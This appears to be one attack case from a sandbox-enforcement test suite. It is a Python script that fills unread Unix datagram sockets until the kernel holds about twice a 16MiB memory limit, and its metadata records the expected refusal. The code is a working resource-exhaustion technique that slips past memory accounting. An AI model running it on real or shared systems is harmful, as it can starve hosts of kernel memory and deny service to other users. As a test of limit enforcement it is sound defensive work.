# /// attack
# guarantee = "memory"
# summary = "Sends small datagrams between Unix sockets that nobody reads: each takes many times its size."
# reference = "unix(7)"
# success = "twice the limit lies in sockets"
# needs = ["cgroup-memory"]
# policy = { limits = { memory = "16MiB", open_files = 1024 } }
# refusal = { process = "denied EACCES", default = "limit memory" }
# ///

import socket

from kit import attempt, succeeded

EACH = 700  # bytes of a datagram of one
held, kept = 0, []
while held < 32 << 20 and len(kept) < 900:
    one, other = attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
    one.setblocking(False)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    kept += [one, other]
    try:
        while True:
            one.send(b"x")
            held += EACH
    except OSError:
        pass
succeeded(held)
